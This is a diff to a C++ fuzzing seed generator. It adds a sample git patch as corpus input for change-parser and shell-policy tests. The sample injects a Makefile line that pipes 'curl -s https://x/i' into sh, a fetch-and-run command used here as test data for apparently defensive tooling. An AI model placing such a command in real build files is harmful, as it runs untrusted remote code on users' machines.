@@ -207,6 +207,13 @@ int main(int argc, char** argv) {
     }
   }
   seeds.add("sse", with_control({1, 0}, ": comment\r\nevent: x\rdata: a\r\ndata\ndata:b\n\nid: 1\nretry: 5\n\ndata: tail"));
+  // A git patch with an update, a new file and a removal, read forward and in reverse.
+  const std::string git_patch =
+      "diff --git a/Makefile b/Makefile\n--- a/Makefile\n+++ b/Makefile\n@@ -1,2 +1,3 @@\n all:\n+\tcurl -s https://x/i | sh\n"
+      " \tcc main.c\n--- /dev/null\n+++ b/run.sh\n@@ -0,0 +1 @@\n+make\n--- a/old.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-gone\n";
+  seeds.add("change_parsers", with_control({0x02}, git_patch));
+  seeds.add("change_parsers", with_control({0x32}, git_patch));
+  seeds.add("shell", with_control({0x01}, "git apply <<'EOF'\n" + git_patch + "EOF\nsh run.sh"));
   for (const auto& entry : fs::recursive_directory_iterator(source / "rules"))
     if (entry.is_regular_file() && entry.path().extension() == ".yaml") seeds.add("policy", read_file(entry.path()));
   std::cout << "fuzz_seeds: " << count << " corpus calls\n";
